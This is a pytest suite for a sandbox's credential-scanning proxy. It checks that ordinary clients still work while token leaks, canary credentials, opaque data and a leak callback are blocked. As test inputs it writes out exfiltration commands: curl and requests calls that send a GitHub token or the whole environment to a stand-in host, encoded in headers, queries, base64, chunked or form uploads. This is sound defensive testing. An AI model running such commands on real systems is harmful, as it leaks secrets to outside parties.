"""Real clients, where what is sent is scanned: each is served as ever, and none of them gets a credential out."""

from __future__ import annotations

import base64
import sys
from pathlib import Path

import pytest

from _support.internet import Host, Internet, places
from pysandbox.dlp import registry

from .table import CLIENTS
from .test_inspected_hosts import NO_CA, ask
from .test_real_clients import built

__all__ = ["built"]

TOKEN = registry.BY_NAME["github_pat"].hits[0].decode()
SERVED = [each for each in CLIENTS if each.name in ("curl", "curl, http", "requests", "httpx", "git", "pip", "npm")]
REQUESTS = """
import os, requests
said = requests.post("https://origin.example/", json={"messages": [{"content": "my key: " + os.environ["KEY"]}]})
print(said.status_code, said.headers.get("x-pysandbox-dlp-detector"))
"""
CURL = "curl -sS -o /dev/null -w '%{http_code} %header{x-pysandbox-dlp-detector}\\n' "
ATTACKS = {
    "curl, a field": CURL + '-H "X-Key: $KEY" https://origin.example/',
    "curl, HTTP": CURL + '"http://origin.example/?key=$KEY"',
    "curl, a file in base64": f'echo "$KEY" | base64 > f; {CURL} --data-binary @f https://origin.example/',
    "curl, chunks": f'echo "$KEY" | gzip | {CURL} -H "Transfer-Encoding: chunked" -T - https://origin.example/f',
    "curl, a form": CURL + '-F "file=@/dev/null;filename=$KEY" https://origin.example/',
    "curl, expecting": CURL + '-H "Expect: 100-continue" -d "$KEY" https://origin.example/',
    "requests": f"{sys.executable} -c '{REQUESTS}'",
}  # fmt: skip


@pytest.mark.parametrize("client", SERVED, ids=lambda client: client.name)
def test_a_client_is_served_as_without(client: object, net_host: Host, net: Internet, built: Path) -> None:
    answer = ask(client, "none", net_host, net, built, more={"dlp_enabled": True})  # type: ignore[arg-type]

    assert (answer.exit_code, client.marker in answer.stdout) == (0, True), answer  # type: ignore[attr-defined]
    assert answer.denials == [] and not answer.told("gatekeeper.credential_found"), answer


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_client_gets_a_credential_out(attack: str, net_host: Host, net: Internet) -> None:
    before = len(net.requests("origin"))
    answer = net_host.run(
        ["sh", "-c", f"cd /tmp; {ATTACKS[attack]}"], env={**NO_CA, "KEY": TOKEN}, proxy_upstream_ca=[net.ca],
        allow=[sys.prefix, sys.base_prefix], hosts=["origin.example"], dlp_enabled=True,
    )  # fmt: skip

    assert answer.stdout == "451 github_pat\n", answer
    assert [(each["kind"], each["target"], each["rule"]) for each in answer.denials] == [
        ("dlp", "origin.example", "dlp.github_pat")
    ]
    (told,) = answer.told("gatekeeper.credential_found")
    assert (told["host"], told["detector"], told["verdict"]) == ("origin.example", "github_pat", "blocked")
    assert TOKEN not in str(answer.events) + str(answer.denials)
    assert not [each for each in net.requests("origin")[before:] if TOKEN[:10] in each]


def test_without_the_word_it_arrives_and_to_its_home_it_may_go(net_host: Host, net: Internet) -> None:
    """The controls: nobody looks; it is listed for this host; it is in its scope; monitor lets it pass and says so."""
    said = CURL.replace("detector", "warning") + '"https://origin.example/?key=$KEY"'
    policies = [
        {"hosts": [{"domain": "origin.example", "methods": ["GET"]}]},
        {"hosts": [{"domain": "origin.example", "allow_credentials": ["github_pat"]}], "dlp_enabled": True},
        {"hosts": ["origin.example"], "dlp_enabled": True, "dlp_extra_scopes": {"github_pat": ["origin.example"]}},
        {"hosts": ["origin.example"], "dlp_enabled": True, "monitor": True},
    ]
    verdicts, printed = [], []
    for policy in policies:
        answer = net_host.run(["sh", "-c", said], env={**NO_CA, "KEY": TOKEN}, proxy_upstream_ca=[net.ca], **policy)
        verdicts.append([each["verdict"] for each in answer.told("gatekeeper.credential_found")])
        printed.append(answer.stdout)
    assert printed == ["200 \n", "200 \n", "200 \n", "200 github_pat\n"]
    assert verdicts == [[], ["listed"], ["home"], ["warned"]]
    assert len([each for each in net.requests("origin") if TOKEN in each]) == 4


def test_what_is_neither_tls_nor_http_never_arrives(net_host: Host, net: Internet) -> None:
    script = "import socket; s = socket.create_connection(('origin.example', {}), 9); s.sendall(bytes((1, 10) * 9))"
    for port in (places.HTTP, places.HTTPS):
        before = net.requests("origin")
        answer = net_host.run(
            [sys.executable, "-c", f"{script.format(port)}; print(s.recv(999))"], allow=[sys.prefix, sys.base_prefix],
            hosts=["origin.example"], dlp_enabled=True, proxy_upstream_ca=[net.ca],
        )  # fmt: skip
        assert "bad-request" in answer.stdout or answer.denials or answer.exit_code, answer
        assert net.requests("origin") == before


def test_a_question_in_base64_is_no_credential(net_host: Host, net: Internet) -> None:
    body = base64.b64encode(bytes(range(256)) * 100).decode()
    answer = net_host.run(
        ["sh", "-c", f"echo {body[:60000]} > f; {CURL} --data-binary @f https://origin.example/"], env=NO_CA,
        proxy_upstream_ca=[net.ca], hosts=["origin.example"], dlp_enabled=True, workdir="none",
    )  # fmt: skip
    assert not answer.told("gatekeeper.credential_found") and "451" not in answer.stdout, answer


CANARIES = (
    "PYSANDBOX_CANARY_GITHUB_PAT", "PYSANDBOX_CANARY_NPM_TOKEN", "PYSANDBOX_CANARY_AWS_ACCESS_KEY", "AWS_ACCESS_KEY_ID",
    "AWS_SECRET_ACCESS_KEY",
)  # fmt: skip


def test_a_thief_finds_false_credentials_and_gets_none_out(net_host: Host, net: Internet) -> None:
    """What he collects is all of his variables, as most do; then each of them alone."""
    before = len(net.requests("origin"))
    thief = f"env | {CURL} --data-binary @- https://origin.example/; "
    thief += "".join(f'{CURL} "https://origin.example/?k=${each}"; ' for each in CANARIES)
    answer = net_host.run(
        ["sh", "-c", f"{thief} printenv {' '.join(CANARIES)}"], env=NO_CA, proxy_upstream_ca=[net.ca],
        hosts=["origin.example"], dlp_enabled=True,
    )  # fmt: skip
    lines = answer.stdout.splitlines()
    assert lines[1:6] == [
        "451 canary_github_pat", "451 canary_npm_token", "451 canary_aws_access_key", "451 canary_aws_access_key_id",
        "451 canary_aws_secret_access_key",
    ] and lines[0].startswith("451 canary_"), answer  # fmt: skip
    assert len({*lines[6:]}) == 5 and {each["rule"] for each in answer.denials} == {
        "dlp." + each.removeprefix("451 ") for each in lines[1:6]
    }
    sent = net.requests("origin")[before:]
    assert not [each for each in sent if any(value[4:] in each for value in lines[6:])]
    assert not [value for value in lines[6:] if value in str(answer.events)]


def test_two_cages_of_one_program_have_other_false_credentials(net_host: Host, net: Internet) -> None:
    found = [
        net_host.run(["printenv", *CANARIES], env=NO_CA, proxy_upstream_ca=[net.ca], hosts=["origin.example"],
                     dlp_enabled=True).stdout.splitlines()
        for _ in range(2)
    ]  # fmt: skip
    assert len({*found[0], *found[1]}) == 2 * len(CANARIES), found


@pytest.mark.parametrize(
    ("more", "given", "left"),
    [
        ({"dlp_enabled": True, "dlp_canary_tokens": False}, {}, []),
        ({}, {}, []),
        ({"dlp_enabled": True}, {"AWS_PROFILE": "own"}, list(CANARIES[:3])),
        ({"dlp_enabled": True, "env_passthrough": ["AWS_REGION"]}, {}, list(CANARIES[:3])),
        ({"dlp_enabled": True}, {"PYSANDBOX_CANARY_NPM_TOKEN": "mine"}, [CANARIES[0], *CANARIES[2:]]),
    ],
)
def test_who_has_real_ones_or_says_no_gets_no_false_ones(
    more: dict[str, object], given: dict[str, str], left: list[str], net_host: Host, net: Internet
) -> None:
    answer = net_host.run(
        ["env"], env={**NO_CA, **given}, hosts=["origin.example"], proxy_upstream_ca=[net.ca] if more else [], **more
    )
    said = dict(line.partition("=")[::2] for line in answer.stdout.splitlines())
    assert [each for each in CANARIES if each in said and said[each] != given.get(each)] == left
    assert all(said[name] == value for name, value in given.items())


def test_a_callback_of_the_host_program_is_asked_and_no_word_of_its_gets_out(net_host: Host, net: Internet) -> None:
    before = len(net.requests("origin"))
    said = "curl -sS -o /dev/null -w '%{http_code} %header{x-pysandbox-dlp-reason}\\n' https://origin.example/?a="
    answer = net_host.run(
        ["sh", "-c", f"{said}another; {said}customer-4711"], env=NO_CA, proxy_upstream_ca=[net.ca],
        hosts=["origin.example"], dlp_enabled=True, leak_word="customer-4711",
    )  # fmt: skip
    assert answer.stdout == "200 \n451 leak_fn\n", answer
    assert [(each["kind"], each["target"], each["rule"]) for each in answer.denials] == [
        ("dlp", "origin.example", "dlp.leak_fn")
    ]
    sent = net.requests("origin")[before:]
    assert [each for each in sent if "another" in each] and not [each for each in sent if "customer-4711" in each]


def test_strict_scans_and_lets_no_opaque_bytes_out(net_host: Host, net: Internet) -> None:
    """Ordinary requests, a digest among them, arrive: the control."""
    before = len(net.requests("origin"))
    digest, opaque = "a0b1c2d3e4f5" * 3 + "6789", base64.b64encode(bytes(range(100, 150))).decode().replace("+", "x")
    asked = " ".join(f"'https://origin.example/?k={each}'" for each in ("v", digest, opaque, TOKEN))
    shown = "%{http_code} %header{x-pysandbox-dlp-reason}%header{x-pysandbox-dlp-detector}\\n"
    answer = net_host.run(
        ["sh", "-c", f"for u in {asked}; do curl -sS -o /dev/null -w '{shown}' $u; done"], env=NO_CA,
        proxy_upstream_ca=[net.ca], hosts=["origin.example"], strict=True,
    )  # fmt: skip
    assert answer.stdout.split("\n")[:4] == ["200 ", "200 ", "451 session-budget", "451 github_pat"], answer
    sent = "".join(map(str, net.requests("origin")[before:]))
    assert digest in sent and opaque not in sent and TOKEN not in sent


DATA = f"""{sys.executable} -c 'import base64, os; print(base64.b64encode(os.urandom(9000)).decode())' > f"""
SENT = "curl -sS -o /dev/null -w '%{http_code} %header{x-pysandbox-dlp-reason}\\n' --data-binary @f https://origin.example/"


@pytest.mark.parametrize("fixed", [False, True])
def test_data_that_is_no_credential_has_a_budget_and_its_refusal_a_fix(
    fixed: bool, net_host: Host, net: Internet
) -> None:
    host = {"domain": "origin.example", **({"allow_credentials": ["generic_high_entropy"]} if fixed else {})}
    answer = net_host.run(
        ["sh", "-c", f"cd /tmp; {DATA}; {SENT}; echo a word > f; {SENT}"], env=NO_CA, proxy_upstream_ca=[net.ca],
        allow=[sys.prefix, sys.base_prefix], hosts=[host], dlp_enabled=True,
    )  # fmt: skip
    first, second = answer.stdout.splitlines()
    assert second.startswith("405"), answer  # by the server: what is no data still goes
    assert first.strip() == ("405" if fixed else "451 session-budget"), answer
    if not fixed:
        (denial,) = answer.denials
        assert (denial["kind"], denial["rule"]) == ("dlp", "dlp.session-budget")
        assert "generic_high_entropy" in denial["fix"] and "origin.example" in denial["fix"]
